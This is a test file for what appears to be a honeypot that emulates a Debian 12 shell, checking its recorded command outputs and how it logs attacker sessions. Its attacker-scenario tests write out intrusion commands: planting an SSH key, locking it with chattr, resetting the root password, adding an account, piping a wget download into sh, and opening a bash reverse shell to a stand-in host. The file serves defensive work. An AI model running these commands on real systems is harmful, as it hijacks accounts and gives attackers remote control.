import { describe, expect, it } from 'vitest';
import { Memory } from '../memory.ts';
import { debianPersona, trial } from './fixture.ts';
import { FileSystem } from './fs.ts';
import { imageOf } from './image.ts';

const debian = debianPersona('debian test');
const utf8 = (text: string) => Buffer.from(text, 'latin1').toString('utf8');

/** What Debian 12 says, recorded from bash 5.2.15, dash 0.5.12 and coreutils 9.1. */
const recorded: [string, string][] = [
  ['lockr -ia .ssh; echo $?', 'bash: line 1: lockr: command not found\n127\n'],
  ["sh -c 'lockr -ia .ssh'", 'sh: 1: lockr: not found\n'],
  ['/ip cloud print', 'bash: line 1: /ip: No such file or directory\n'],
  ['echo Hi | cat -n', '     1\tHi\n'],
  ['ls -lh $(which ls)', '-rwxr-xr-x 1 root root 148K Sep 20  2022 /usr/bin/ls\n'],
  ['chattr -ia /nonexist', 'chattr: No such file or directory while trying to stat /nonexist\n'],
  ['touch /proc/x', "touch: cannot touch '/proc/x': No such file or directory\n"],
  ['mkdir /sys/x', 'mkdir: cannot create directory ‘/sys/x’: Operation not permitted\n'],
  ['LANG=C mkdir /sys/x', "mkdir: cannot create directory '/sys/x': Operation not permitted\n"],
  ['echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"', 'auth_ok\n\n'],
  ['ssh -V', 'OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.19 27 Jan 2026\n'],
  ['/bin/busybox SMJKD', 'bash: line 1: /bin/busybox: No such file or directory\n'],
  ['cat --help | md5sum', 'ad3aa2b07ce44b50a2e8db35977d6b1f  -\n'],
  ['echo )', "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `echo )'\n"],
  ['for', "bash: -c: line 1: syntax error near unexpected token `newline'\nbash: -c: line 1: `for'\n"],
  ['echo "', 'bash: -c: line 1: unexpected EOF while looking for matching `"\'\n'],
  ['if true; then', 'bash: -c: line 2: syntax error: unexpected end of file\n'],
  [
    'echo a\nnosuch\nif x',
    'a\nbash: line 2: nosuch: command not found\nbash: -c: line 4: syntax error: unexpected end of file\n',
  ],
  ["sh -c 'echo )'", 'sh: 1: Syntax error: ")" unexpected\n'],
  ["sh -c 'if true; then'", 'sh: 1: Syntax error: end of file unexpected (expecting "fi")\n'],
  ["sh -c 'for i in 1; do echo; fi'", 'sh: 1: Syntax error: "fi" unexpected (expecting "done")\n'],
  ["sh -c 'cat <<< a'", 'sh: 1: Syntax error: redirection unexpected\n'],
  ["sh -c '[[ a == a ]]'", 'sh: 1: [[: not found\n'],
  [
    "sh -c 'cd /nonex; cat < /nonex; >/proc/x'",
    "sh: 1: cd: can't cd to /nonex\nsh: 1: cannot open /nonex: No such file\nsh: 1: cannot create /proc/x: Directory nonexistent\n",
  ],
  ["sh -c 'echo $((1/0))'", 'sh: 1: arithmetic expression: division by zero: "1/0"\n'],
  [
    'cd /nonex; cat < /nonex; >/proc/x; /tmp',
    'bash: line 1: cd: /nonex: No such file or directory\nbash: line 1: /nonex: No such file or directory\nbash: line 1: /proc/x: No such file or directory\nbash: line 1: /tmp: Is a directory\n',
  ],
  ['echo ${x!}; echo no', 'bash: line 1: ${x!}: bad substitution\n'],
  ['a=(1 2 "3 4"); echo ${#a[@]} ${a[2]} "${a[@]}" ${a[-1]} ${!a[@]}', '3 3 4 1 2 3 4 3 4 0 1 2\n'],
  ['b=abcabc; echo ${b//b/X} ${b/b/X} ${b:1:2} ${b^^} ${b:(-2)}', 'aXcaXc aXcabc bc ABCABC bc\n'],
  ['echo {1..5} {a,b}c x{1..3}y {a..e..2}', '1 2 3 4 5 ac bc x1y x2y x3y a c e\n'],
  ['[[ abc =~ ^a(.)c$ ]] && echo ${BASH_REMATCH[1]}; cat <<< "hi"', 'b\nhi\n'],
  ['declare -A m=([a]=1 [b]=2); echo ${m[b]}; set -e; false; echo no', '2\n'],
  ["trap 'echo bye' EXIT; echo $- $BASH_VERSION", 'hBc 5.2.15(1)-release\nbye\n'],
  ['for ((i=0;i<3;i++)); do echo -n $i; done; echo a &>/tmp/q; cat /tmp/q', '012a\n'],
  [
    'rm nonex; cp nonex y; mv nonex y; ls nonex; rmdir /etc',
    "rm: cannot remove 'nonex': No such file or directory\ncp: cannot stat 'nonex': No such file or directory\nmv: cannot stat 'nonex': No such file or directory\nls: cannot access 'nonex': No such file or directory\nrmdir: failed to remove '/etc': Directory not empty\n",
  ],
  [
    'chmod zz /tmp; id zz; sleep x',
    "chmod: invalid mode: ‘zz’\nTry 'chmod --help' for more information.\nid: ‘zz’: no such user\nsleep: invalid time interval ‘x’\nTry 'sleep --help' for more information.\n",
  ],
  [
    'kill 99999; killall zz; crontab -l',
    'bash: line 1: kill: (99999) - No such process\nzz: no process found\nno crontab for root\n',
  ],
];

describe('Debian 12', () => {
  it.each(recorded)('%s', async (line, said) => {
    expect(utf8(await trial(debian).run(line))).toBe(said);
  });

  it('words its errors for a prompt', async () => {
    const { shell, run } = trial(debian, { name: '-bash', program: 'bash' });
    shell.interactive = true;
    expect(await run('lockr -ia .ssh', { command: false })).toBe('-bash: lockr: command not found\n');
    expect(await run('echo )', { command: false })).toBe("-bash: syntax error near unexpected token `)'\n");
    expect(await run('cd /nonex', { command: false })).toBe('-bash: cd: /nonex: No such file or directory\n');
  });

  it('runs scripts in the dialect of their first line', async () => {
    const { run } = trial(debian);
    await run(
      "printf '#!/bin/sh\\nnosuch\\n' > /tmp/s; printf '#!/bin/bash\\nnosuch\\n' > /tmp/b; chmod +x /tmp/s /tmp/b",
    );
    expect(await run('/tmp/s; /tmp/b; sh /tmp/b')).toBe(
      '/tmp/s: 2: nosuch: not found\n/tmp/b: line 2: nosuch: command not found\n/tmp/b: 2: nosuch: not found\n',
    );
  });
});

describe('what attackers do', () => {
  it('S1: one key, one password, a look around', async () => {
    const { run, memory } = trial(debian);
    expect(
      await run(
        'cd ~; chattr -ia .ssh; lockr -ia .ssh\ncd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
      ),
    ).toBe('bash: line 1: lockr: command not found\n');
    expect(await run('cat .ssh/authorized_keys; stat -c %a .ssh .ssh/authorized_keys')).toBe(
      'ssh-rsa AAAA mdrfckr\n700\n600\n',
    );
    expect(await run('cat /proc/cpuinfo | grep name | wc -l; nproc')).toBe('2\n2\n');
    expect(await run('echo "root:newpassword12"|chpasswd|bash')).toBe('');
    expect(memory.get('passwords')).toEqual(new Map([['root', 'newpassword12']]));
    expect(await run("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'")).toMatch(
      /^3924( \d+){5}\n$/,
    );
    expect(await run("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")).toBe('2.0G\n');
    expect(
      await run(
        'rm -rf /tmp/secure.sh; pkill -9 secure.sh; echo > /etc/hosts.deny; pkill -9 sleep; cat /etc/hosts.deny',
      ),
    ).toBe('\n');
  });

  it('S2 and S7: files that cannot be changed, an account that is made', async () => {
    const { run } = trial(debian);
    await run('mkdir -p ~/.ssh; echo key > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys');
    expect(await run('echo x > ~/.ssh/authorized_keys; lsattr ~/.ssh/authorized_keys')).toBe(
      'bash: line 1: /root/.ssh/authorized_keys: Operation not permitted\n----ia--------e------- /root/.ssh/authorized_keys\n',
    );
    expect(await run('useradd -m -p $(openssl passwd -1 X) system; id system; ls -ld /home/system')).toMatch(
      /^uid=1001\(system\) gid=1001\(system\) groups=1001\(system\)\ndrwxr-xr-x 2 system system 4096 .* \/home\/system\n$/,
    );
  });

  it('tells what is to be fetched and where shells call home', async () => {
    const { run, events } = trial(debian);
    await run(
      'wget -q http://192.0.2.1/a.sh -O- | sh; curl -fsSL 192.0.2.1/b; git clone https://192.0.2.1/c.git; bash -i >& /dev/tcp/192.0.2.9/4444 0>&1',
    );
    expect(
      events
        .filter(({ kind }) => kind === 'download')
        .map((body) => (body.kind === 'download' ? body.url : '')),
    ).toEqual(['http://192.0.2.1/a.sh', 'http://192.0.2.1/b', 'https://192.0.2.1/c.git']);
    expect(events).toContainEqual({
      kind: 'forward',
      host: '192.0.2.9',
      port: 4_444,
      detail: { tool: 'bash', protocol: 'tcp' },
    });
  });

  it('has sed and awk for their one-liners', async () => {
    const { run } = trial(debian);
    expect(
      await run(
        "sed -n '1p' /etc/passwd; sed -e 's#/bin#[&]#' -e 1q /etc/passwd; echo abc | sed -E 's/(a)(b)/\\2\\1/;y/c/d/'",
      ),
    ).toBe('root:x:0:0:root:/root:/bin/bash\nroot:x:0:0:root:/root:[/bin]/bash\nbad\n');
    expect(
      await run(
        'awk -F: \'$3>=33{n++; a[$1]=$3} END{for(k in a) print k,a[k]; printf "%d %s %.2f\\n", n, toupper("x"), 1/3}\' /etc/passwd',
      ),
    ).toBe('www-data 33\ndebian 1000\n2 X 0.33\n');
    expect(
      await run(
        "echo 'a b' | awk '{gsub(/a/,\"[&]\"); print $0, length($2), substr($0,2,1) ~ /a/}'; awk 'BEGIN{while(i<3)print i++}'",
      ),
    ).toBe('[a] b 1 1\n0\n1\n2\n');
  });
});

describe('one model', () => {
  it('of the processor, the memory, the disk, the kernel and the start', async () => {
    for (const seed of ['a', 'b', 'c']) {
      const persona = debianPersona(seed);
      const { run } = trial(persona);
      expect(await run('grep -c ^processor /proc/cpuinfo')).toBe(`${persona.cpu.count}\n`);
      expect(await run("lscpu | awk '/^CPU\\(s\\)/{print $2}'")).toBe(`${persona.cpu.count}\n`);
      expect(await run("awk '/MemTotal/{print $2}' /proc/meminfo")).toBe(
        await run("free | awk '/Mem/{print $2}'"),
      );
      expect(await run('cat /proc/mounts')).toBe(await run('cat /proc/1/mounts'));
      expect(await run("df / | awk 'NR==2{print $1}'")).toBe(
        await run('awk \'$2=="/"{print $1}\' /proc/mounts'),
      );
      expect(await run('cat /proc/version')).toContain((await run('uname -r')).trim());
      expect(await run('uptime -s; who -b')).toMatch(/^(\S+ \d\d:\d\d):\d\d\n +system boot {2}\1\n$/);
      expect(await run('ps -eo pid,comm | awk \'$2=="sshd"{print $1; exit}\'')).toBe(
        await run('ss -tlnp | sed -n \'s/.*"sshd",pid=\\([0-9]*\\).*/\\1/p\''),
      );
      expect((await run('ps -e')).split('\n').length).toBeGreaterThan(30);
    }
  });

  it('keeps to the modes of files', async () => {
    const { run } = trial(debian, { user: 'debian' });
    expect(
      await run('whoami; id -u; cat /etc/shadow; ls /root; echo x > /etc/x; cd; pwd; echo ok > f; cat f'),
    ).toBe(
      "debian\n1000\ncat: /etc/shadow: Permission denied\nls: cannot open directory '/root': Permission denied\nbash: line 1: /etc/x: Permission denied\n/home/debian\nok\n",
    );
    expect(await run('sudo whoami; sudo cat /etc/shadow | wc -l')).toBe('root\n4\n');
  });

  it('is made once for a persona, and a first write costs what it writes', () => {
    expect(imageOf(debian)).toBe(imageOf(debian));
    const memory = new Memory();
    const fs = new FileSystem(imageOf(debian), memory);
    fs.write('/tmp/x', Buffer.alloc(100));
    expect(memory.used).toBeLessThan(1_000);
  });

  it('goes on in the next session of the same attacker', async () => {
    const first = trial(debian);
    await first.run('echo kept > /tmp/f; useradd -m bob; echo bob:secret1 | chpasswd');
    const second = trial(debian, { memory: first.memory });
    expect(await second.run('cat /tmp/f; id -un bob; getent passwd bob')).toBe(
      'kept\nbob\nbob:x:1001:1001::/home/bob:/bin/sh\n',
    );
    expect(await trial(debian).run('cat /tmp/f')).toBe('cat: /tmp/f: No such file or directory\n');
  });
});
